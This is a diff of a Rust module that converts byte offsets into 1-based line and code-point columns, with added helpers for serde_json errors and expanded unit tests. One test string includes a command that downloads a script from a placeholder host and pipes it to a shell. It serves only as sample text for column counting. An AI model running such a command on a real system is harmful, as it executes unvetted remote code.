@@ -1,4 +1,7 @@
-//! Byte offsets to 1-based lines and columns, for `path:line:col` everywhere.
+//! Byte offsets to 1-based lines and columns, for `path:line:col` everywhere. Columns
+//! count Unicode code points (characters), in every format: SARIF declares
+//! `unicodeCodePoints`, and editors and compilers (rustc) count characters too. Parsers
+//! that count bytes (serde_json, regex matches, TOML spans) are converted here.
 
 /// Line starts of a text, built once and searched in O(log n).
 #[derive(Debug, Clone)]
@@ -22,11 +25,13 @@ impl LineIndex {
         u32::try_from(line).unwrap_or(u32::MAX)
     }
 
-    /// 1-based (line, column) of a byte offset; the column counts bytes.
-    pub fn position_of(&self, offset: usize) -> (u32, u32) {
+    /// 1-based (line, column) of a byte offset into `text`, the bytes this index was built
+    /// from; the column counts code points.
+    pub fn position_of(&self, text: &[u8], offset: usize) -> (u32, u32) {
         let line = self.line_of(offset);
         let start = self.line_starts[(line as usize).saturating_sub(1)];
-        (line, u32::try_from(offset - start + 1).unwrap_or(u32::MAX))
+        let before = text.get(start..offset).unwrap_or_default();
+        (line, code_points_before(before))
     }
 
     /// Byte offset where a 1-based line starts.
@@ -39,6 +44,35 @@ impl LineIndex {
     pub fn line_count(&self) -> u32 {
         u32::try_from(self.line_starts.len()).unwrap_or(u32::MAX)
     }
+}
+
+/// The code-point column of a 1-based byte column (as serde_json and byte offsets give
+/// it) on `line`, the line's bytes.
+pub fn code_point_column(line: &[u8], byte_column: usize) -> u32 {
+    let before = byte_column.saturating_sub(1).min(line.len());
+    code_points_before(&line[..before])
+}
+
+/// Where serde_json stopped in `text`: 1-based line and code-point column (serde_json
+/// counts the column in bytes).
+pub fn json_error_position(text: &[u8], error: &serde_json::Error) -> (u32, u32) {
+    let line = u32::try_from(error.line()).unwrap_or(u32::MAX).max(1);
+    let line_text = text
+        .split(|&byte| byte == b'\n')
+        .nth(line as usize - 1)
+        .unwrap_or_default();
+    (line, code_point_column(line_text, error.column()))
+}
+
+/// 1 + the characters in `bytes`: each character starts with a byte that is not a UTF-8
+/// continuation byte (`10xxxxxx`), which also counts a prefix cut inside a character
+/// (or invalid UTF-8 after a valid prefix) sensibly.
+fn code_points_before(bytes: &[u8]) -> u32 {
+    let characters = bytes
+        .iter()
+        .filter(|&&byte| byte & 0b1100_0000 != 0b1000_0000)
+        .count();
+    u32::try_from(characters + 1).unwrap_or(u32::MAX)
 }
 
 fn memchr_newlines(bytes: &[u8]) -> impl Iterator<Item = usize> + '_ {
@@ -107,7 +141,7 @@ pub fn require_utf8(bytes: &[u8]) -> Result<&str, TextProblem> {
     simdutf8::basic::from_utf8(bytes)
         .or_else(|_| std::str::from_utf8(bytes))
         .map_err(|error| {
-            let (line, column) = LineIndex::new(bytes).position_of(error.valid_up_to());
+            let (line, column) = LineIndex::new(bytes).position_of(bytes, error.valid_up_to());
             (line, column, "invalid UTF-8; save the file as UTF-8".into())
         })
 }
@@ -117,7 +151,7 @@ pub fn crlf_problem(text: &str) -> Option<TextProblem> {
     // Most files have no `\r` at all: a byte search (memchr) settles that quickly.
     memchr::memchr(b'\r', text.as_bytes())?;
     let position = text.find("\r\n")?;
-    let (line, column) = LineIndex::new(text.as_bytes()).position_of(position);
+    let (line, column) = LineIndex::new(text.as_bytes()).position_of(text.as_bytes(), position);
     Some((
         line,
         column,
@@ -156,13 +190,23 @@ mod tests {
 
     #[test]
     fn positions_are_one_based() {
-        let index = LineIndex::new(b"ab\ncd\n\nef");
-        assert_eq!(index.position_of(0), (1, 1));
-        assert_eq!(index.position_of(1), (1, 2));
-        assert_eq!(index.position_of(3), (2, 1));
-        assert_eq!(index.position_of(6), (3, 1));
-        assert_eq!(index.position_of(8), (4, 2));
+        let text = b"ab\ncd\n\nef";
+        let index = LineIndex::new(text);
+        assert_eq!(index.position_of(text, 0), (1, 1));
+        assert_eq!(index.position_of(text, 1), (1, 2));
+        assert_eq!(index.position_of(text, 3), (2, 1));
+        assert_eq!(index.position_of(text, 6), (3, 1));
+        assert_eq!(index.position_of(text, 8), (4, 2));
         assert_eq!(index.line_start(2), Some(3));
+        // Columns count characters, not bytes.
+        let text = "Étape élevée: curl https://e.com/x | sh".as_bytes();
+        let curl = 17;
+        assert_eq!(&text[curl..curl + 4], b"curl");
+        assert_eq!(LineIndex::new(text).position_of(text, curl), (1, 15));
+        assert_eq!(code_point_column(text, curl + 1), 15);
+        assert_eq!(code_point_column("a🙂b".as_bytes(), 6), 3);
+        assert_eq!(code_point_column(b"ab", 9), 3);
+        assert_eq!(code_point_column(b"", 0), 1);
         assert_eq!(index.line_start(0), None);
     }
 
@@ -179,6 +223,10 @@ mod tests {
         assert!(require_clean_text(b"ok\n").is_ok());
         assert_eq!(require_clean_text(b"\xEF\xBB\xBF{}").unwrap_err().0, 1);
         let (line, column, _) = require_clean_text(b"a\nb\r\n").unwrap_err();
+        assert_eq!((line, column), (2, 2));
+        let (line, column, _) = require_clean_text("a\né\r\n".as_bytes()).unwrap_err();
+        assert_eq!((line, column), (2, 2));
+        let (line, column, _) = require_clean_text(b"a\n\xc3\xa9\xffb").unwrap_err();
         assert_eq!((line, column), (2, 2));
         let (line, column, message) = require_clean_text(b"a\n\xffb").unwrap_err();
         assert_eq!((line, column), (2, 1));
